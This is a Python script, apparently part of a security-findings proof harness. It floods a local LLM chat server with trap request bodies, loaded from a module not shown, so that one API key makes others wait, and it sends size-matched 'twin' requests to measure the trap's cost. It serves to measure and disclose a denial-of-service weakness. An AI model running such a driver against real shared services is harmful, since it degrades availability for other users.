"""A process that sends requests by which one key makes other keys wait, or plain *twins* of these requests.

    python -m proofs.findings.neighbours.attacks PORT NAME SECONDS [--twin NUM_REQUESTS ANSWER_TOKENS] KEY...

The twin of an attack has as many requests, with bodies of as many bytes and prompts and answers of as many tokens, but
without the trap, so that a comparison shows the cost of the trap alone. The last line of the output is a JSON object.
"""

import argparse
import json
import socket
import threading
import time
from collections import Counter
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from proofs.findings.neighbours.bodies import BODIES, CHAT, HarmfulBody

TWIN_FIELDS = ("messages", "prompt", "max_tokens", "n", "temperature", "stream")
"""The fields that a twin takes over from its attack."""
WAIT_S = 180.0


@dataclass(frozen=True, slots=True)
class Outcome:
    """What the requests of one attack led to."""

    num_requests: int
    answer_tokens: int
    """Tokens of one answer, on average."""
    statuses: Mapping[str, int]


@dataclass
class Sender:
    """Sends one attack, or its twin, over several connections for some seconds."""

    port: int
    keys: list[str]
    attack: HarmfulBody
    seconds: float
    base: Outcome | None = None
    """To send a twin: the outcome of the attack whose twin it is."""
    statuses: Counter[str] = field(default_factory=Counter)
    answer_tokens: list[int] = field(default_factory=list)
    num_sent: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)

    def run(self) -> Outcome:
        """Send requests until the time is over."""
        self.end_s = time.monotonic() + self.seconds
        count = self.attack.num_connections
        every_s = self.attack.every_s if self.base is None else self.seconds * count / max(1, self.base.num_requests)
        threads = [threading.Thread(target=self._send, args=(i, every_s), daemon=True) for i in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        counts = self.answer_tokens or [0]
        return Outcome(self.num_sent, max(1, round(sum(counts) / len(counts))), self.statuses)

    def _send(self, index: int, every_s: float) -> None:
        next_s = time.monotonic() + every_s * index / self.attack.num_connections
        key = self.keys[index % len(self.keys)]
        while next_s < self.end_s:
            time.sleep(max(0.0, next_s - time.monotonic()))
            with self.lock:
                if self.base is not None and self.num_sent >= self.base.num_requests:
                    return
                number = self.num_sent = self.num_sent + 1
            status, num_tokens = self._exchange(key, self._body(number))
            with self.lock:
                self.statuses[status] += 1
                self.answer_tokens.append(num_tokens)
            next_s = max(next_s + every_s, time.monotonic())

    def _body(self, number: int) -> dict[str, Any]:
        body = self.attack.make(number, self.token)
        return body if self.base is None else plain_twin(body, self.attack, number, self.base.answer_tokens)

    def token(self, text: str) -> int:
        """The first token of a text."""
        if text not in TOKENS:
            connection = _post(self.port, self.keys[0], "/tokenize", {"prompt": text})
            TOKENS[text] = int(json.loads(_read_answer(connection)[1])["tokens"][0])
        return TOKENS[text]

    def _exchange(self, key: str, body: dict[str, Any]) -> tuple[str, int]:
        """The status and the number of tokens of an answer; "left" and its token limit if the client disconnects."""
        try:
            with _post(self.port, key, CHAT, body) as connection:
                wait_s = min(self.end_s - time.monotonic(), self.attack.leaves_after_s or WAIT_S)
                connection.settimeout(max(0.1, wait_s))
                status, data = _read_answer(connection)
        except TimeoutError:
            return "left", int(body.get("max_tokens", 1))
        except OSError:
            return "cut", 1
        return status, num_tokens_of(data) // int(body.get("n", 1)) if status == "200" else 1


TOKENS: dict[str, int] = {}


def plain_twin(body: dict[str, Any], attack: HarmfulBody, number: int, answer_tokens: int) -> dict[str, Any]:
    """A request without the trap, with as many bytes and with a prompt and an answer of as many tokens."""
    twin = {name: value for name, value in body.items() if name in TWIN_FIELDS}
    if "max_tokens" in twin:
        twin |= {"max_tokens": answer_tokens, "ignore_eos": True}
    if attack.plain is not None:
        twin |= attack.plain(number)
    elif "tools" in body:  # the chat template writes them into the prompt
        system = {"role": "system", "content": json.dumps(body["tools"])}
        twin["messages"] = [system, *body["messages"]]
    num_missing = len(json.dumps(body)) - len(json.dumps(twin)) - len(', "user": ""')
    return twin | {"user": "x" * num_missing} if num_missing > 0 else twin


def num_tokens_of(data: bytes) -> int:
    """The completion tokens of an answer in one piece, or of a stream with usage in its last chunk."""
    line = next((line for line in reversed(data.splitlines()) if b'"usage"' in line), b"{}")
    usage = json.loads(line.removeprefix(b"data: ")).get("usage") or {}
    return int(usage.get("completion_tokens", 1))


def _post(port: int, key: str, path: str, body: dict[str, Any]) -> socket.socket:
    data = json.dumps(body).encode()
    head = f"POST {path} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {key}\r\nconnection: close\r\n"
    head += f"content-type: application/json\r\ncontent-length: {len(data)}\r\n\r\n"
    connection = socket.create_connection(("127.0.0.1", port), timeout=WAIT_S)
    connection.sendall(head.encode() + data)
    return connection


def _read_answer(connection: socket.socket) -> tuple[str, bytes]:
    """Status and body, read until the server closes the connection. The body keeps the frames of chunked encoding."""
    parts = list[bytes]()
    end_s = time.monotonic() + (connection.gettimeout() or WAIT_S)
    while part := connection.recv(65536):
        parts.append(part)
        if time.monotonic() > end_s:
            raise TimeoutError
    head, _, data = b"".join(parts).partition(b"\r\n\r\n")
    return head[9:12].decode(), data


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("name", choices=sorted(BODIES))
    parser.add_argument("seconds", type=float)
    parser.add_argument("--twin", nargs=2, type=int)
    parser.add_argument("keys", nargs="+")
    options = parser.parse_args()
    base = None if options.twin is None else Outcome(options.twin[0], options.twin[1], {})
    outcome = Sender(options.port, options.keys, BODIES[options.name], options.seconds, base).run()
    print(json.dumps({"requests": outcome.num_requests, "answer_tokens": outcome.answer_tokens, **outcome.statuses}))


if __name__ == "__main__":
    main()
